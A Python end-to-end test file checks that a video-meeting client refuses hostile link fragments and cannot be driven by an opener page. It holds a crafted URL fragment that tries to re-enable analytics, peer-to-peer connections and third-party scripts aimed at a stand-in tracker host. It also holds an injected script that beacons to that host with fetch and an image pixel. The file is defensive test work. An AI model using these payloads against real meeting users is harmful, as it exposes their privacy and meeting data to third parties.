"""Somebody opens a link that tries to undo the privacy of the client, and misbehaves."""

from dataclasses import dataclass
from typing import Any
from urllib.parse import urlsplit

import pytest

from meethaus.lab import ContactKind, Lab
from tests.e2e.conftest import Installation
from tests.support import health
from tests.support.meeting import Person, people

pytestmark = [pytest.mark.lab, pytest.mark.timeout(2400)]

_TRACKER = "tracker.example.net"
# Each part switches something on that the roles switch off, or names somebody else's server.
_FRAGMENT = "&".join(
    (
        "config.disableThirdPartyRequests=false",
        "config.analytics.disabled=false",
        f'config.analytics.rtcstatsEndpoint="wss://{_TRACKER}/"',
        "config.analytics.rtcstatsEnabled=true",
        f'config.analytics.scriptURLs=["https://{_TRACKER}/a.js"]',
        "config.gravatar.disabled=false",
        "config.hideEmailInSettings=false",
        "config.giphy.enabled=true",
        "config.p2p.enabled=true",
        'config.p2p.iceTransportPolicy="all"',
        "config.localRecording.disable=false",
        "config.startWithAudioMuted=false",
        'interfaceConfig.SETTINGS_SECTIONS=["calendar"]',
        'userInfo.email="ben@example.net"',
        'iceServers.replace=[{"targetType":"turn","urls":"turn:' + _TRACKER + '"}]',
        "jitsi_meet_external_api_id=0",
        'userInfo.displayName="Ben"',
    )
)
_MISBEHAVE = f"""
async () => {{
    APP.openGifs();
    APP.shareVideo('https://{_TRACKER}/film');
    APP.conference.sendCommand('avatar-url', {{ value: 'https://{_TRACKER}/ben.png' }});
    // What a script of an attacker would try, had it found a way in.
    await fetch('https://{_TRACKER}/beacon', {{ mode: 'no-cors' }}).catch(() => null);
    new Image().src = 'https://{_TRACKER}/pixel.png';
}}
"""
_SETTLE_MILLISECONDS = 3_000


@dataclass(frozen=True)
class Visit:
    """What the link did to Ben's page, and whom the browsers of both turned to."""

    overrides: dict[str, Any]
    config: dict[str, Any]
    address: str
    direct: dict[str, Any]
    contacts: set[tuple[ContactKind, str]]
    hold_of_a_foreign_page: bool


@pytest.fixture(scope="module")
def visit(installation: Installation, lab: Lab, tmp_path_factory: pytest.TempPathFactory) -> Visit:
    site = installation.site
    place = tmp_path_factory.mktemp("link")
    with people(lab, site.domain, place, "Anna", "Ben") as (anna, ben):
        room = anna.browser.page.url
        anna.open_meeting(site.moderator())
        ben.browser.page.goto("data:text/html,<title>A page of somebody else</title>")
        hold = _has_hold(ben, f"{room}#{_FRAGMENT}")
        # Two slashes: what the browser would take for the beginning of another host.
        ben.browser.page.goto(f"https://{site.domain}//{urlsplit(room).path[1:]}#{_FRAGMENT}")
        ben.join("lobby")
        anna.decide("Ben", admitted=True)
        ben.wait_until("() => APP.participants().length === 2")
        ben.browser.page.evaluate(_MISBEHAVE)
        anna.browser.page.wait_for_timeout(_SETTLE_MILLISECONDS)
        clients = {anna.browser.client.name, ben.browser.client.name}
        told = Visit(
            overrides=ben.browser.page.evaluate("() => APP.overrides"),
            config=ben.browser.page.evaluate("() => APP.config"),
            address=ben.browser.page.url,
            direct=ben.browser.page.evaluate("() => APP.p2p()"),
            hold_of_a_foreign_page=hold,
            contacts={
                (contact.kind, contact.name or contact.destination)
                for contact in lab.contacts()
                if contact.source in clients
            },
        )
        for person in (anna, ben):
            person.leave()
    health.meetings(site.target)
    return told


def _has_hold(person: Person, address: str) -> bool:
    """Tell whether a room's page, opened by a foreign one, knows who opened it.

    The client takes orders from there, such as to let in who waits.
    """
    with person.browser.page.context.expect_page() as opened:
        person.browser.page.evaluate("(address) => { window.open(address); }", address)
    opened.value.wait_for_function("() => window.APP?.ready")
    hold = opened.value.evaluate("() => window.opener !== null")
    opened.value.close()
    return bool(hold)


def test_a_page_that_opens_a_room_cannot_give_it_orders(visit: Visit) -> None:
    assert not visit.hold_of_a_foreign_page


def test_the_link_changes_no_setting(visit: Visit) -> None:
    assert visit.overrides == {"applied": {"userInfo.displayName": "Ben"}, "refused": []}
    assert visit.config["disableThirdPartyRequests"] is True
    assert visit.config["localRecording"]["disable"] is True
    assert visit.config["startWithAudioMuted"] is True


def test_the_address_shows_what_is_left_of_it(visit: Visit) -> None:
    assert urlsplit(visit.address).fragment == "userInfo.displayName=%22Ben%22"


def test_two_participants_are_not_connected_directly(visit: Visit) -> None:
    assert (visit.config["p2p"]["enabled"], visit.direct["active"]) == (False, False)


def test_nobody_else_hears_of_the_meeting(visit: Visit) -> None:
    assert [contact for contact in visit.contacts if _TRACKER in contact[1]] == []
    others = {"gravatar.com", "giphy.com", "youtube.com"}
    assert [name for _, name in visit.contacts if name.endswith(tuple(others))] == []
